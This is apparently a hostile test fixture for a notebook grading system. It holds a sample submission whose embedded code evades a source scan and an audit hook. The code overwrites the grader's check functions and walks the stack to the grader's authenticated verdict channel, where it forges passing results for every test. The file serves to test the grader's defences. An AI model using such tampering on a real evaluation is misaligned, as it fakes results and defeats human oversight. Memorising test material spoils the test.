"""Reads the grader's source: in the notebook run it patches the checks without any syntax the scan knows
(``type(m).__setattr__``); in the re-run it gets a frame from a function the audit hook trusts
(``logging.currentframe``), walks up to the re-run's own frame with ``getattr`` and calls its verdict sender
(the MAC'd channel) to report every test passed before the real tests run."""
from tests.hostile._common import Submission, answer, release

KIND, HONEST, FLAG, WHAT = "tamper", 0.0, True, "calls the re-run's own verdict sender through a trusted frame"

ATTACK = '''
import logging
from msglib.grading import ex00 as _m


def _pass(*a, **k):
    return None


_set = type(_m).__setattr__
for _n in ("check_call_chain", "hidden_call_chain", "check_handle", "hidden_handle"):
    _set(_m, _n, _pass)

_f = logging.currentframe()
while _f is not None:
    _loc = getattr(_f, "f_" + "locals")
    _send = _loc.get("send")
    if callable(_send) and "exercise" in _loc:
        for _gid in ("00-call_chain-test", "00-call_chain-hidden", "00-queue_handler-test", "00-queue_handler-hidden"):
            _send("test", _gid, "pass", "")
        break
    _f = getattr(_f, "f_" + "back")
'''


def build(ctx):
    nb = release()
    answer(nb, "00-call_chain", ATTACK + "\n\ndef call_chain(calls):\n    return 0.0\n")
    answer(nb, "00-queue_handler", ATTACK + "\n\ndef handle(message, service, forward):\n    return True\n")
    return Submission(nb)
